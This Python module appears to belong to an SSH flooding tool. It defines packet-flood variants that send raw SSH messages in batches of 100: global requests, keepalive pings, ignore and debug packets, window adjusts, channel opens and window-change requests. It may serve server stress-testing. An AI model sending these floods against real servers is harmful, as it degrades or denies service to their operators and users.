"""Floods of packets that are no messages: no window holds them back."""

from __future__ import annotations

from collections.abc import Sequence
from typing import ClassVar

from scripts.floods.kind import Kind
from scripts.floods.line import GLOBAL_REQUEST, WINDOW_ADJUST, Line, string, uint32

IGNORE, DEBUG, CHANNEL_OPEN, CHANNEL_REQUEST = 2, 4, 90, 98
TOGETHER = 100


class Same(Kind):
    """The same packet, again and again."""

    PAYLOAD: ClassVar[bytes] = b""

    def payload(self, line: Line) -> bytes:
        return self.PAYLOAD

    def payloads(self, line: Line) -> Sequence[bytes]:
        return [self.payload(line)] * TOGETHER


class GlobalRequests(Same):
    name = "global-requests"
    about = "requests of no kind that want an answer"
    PAYLOAD = bytes((GLOBAL_REQUEST,)) + string(b"x") + b"\1"


class Pings(Same):
    name = "pings"
    about = "the question whether the server is there, which OpenSSH asks when nothing comes"
    PAYLOAD = bytes((GLOBAL_REQUEST,)) + string(b"keepalive@openssh.com") + b"\1"


class UnreadReplies(GlobalRequests):
    name = "unread-replies"
    about = "requests that want an answer, by one who reads none"

    async def flood(self, line: Line) -> None:
        line.hold_ears()
        await super().flood(line)


class Ignore(Same):
    name = "ignore"
    about = "packets that mean nothing"
    PAYLOAD = bytes((IGNORE,)) + string(b"")


class Debug(Same):
    name = "debug"
    about = "words to whoever looks for faults"
    PAYLOAD = bytes((DEBUG,)) + b"\0" + string(b"x") + string(b"")


class WindowAdjusts(Same):
    name = "window-adjusts"
    about = "leave to send one byte more"
    door = "screen"

    def payload(self, line: Line) -> bytes:
        return bytes((WINDOW_ADJUST,)) + uint32(line.channel) + uint32(1)


class ChannelOpens(Same):
    name = "channel-opens"
    about = "channels of no kind, each of which is refused"
    PAYLOAD = bytes((CHANNEL_OPEN,)) + string(b"x") + uint32(7) + uint32(1 << 20) + uint32(1 << 15)


class WindowChanges(Kind):
    name = "window-changes"
    about = "a terminal that is another size each time"
    door = "screen"

    def payloads(self, line: Line) -> Sequence[bytes]:
        head = bytes((CHANNEL_REQUEST,)) + uint32(line.channel) + string(b"window-change") + b"\0"
        return [head + uint32(80 + number) + uint32(24 + number // 2) + bytes(8) for number in range(TOGETHER)]
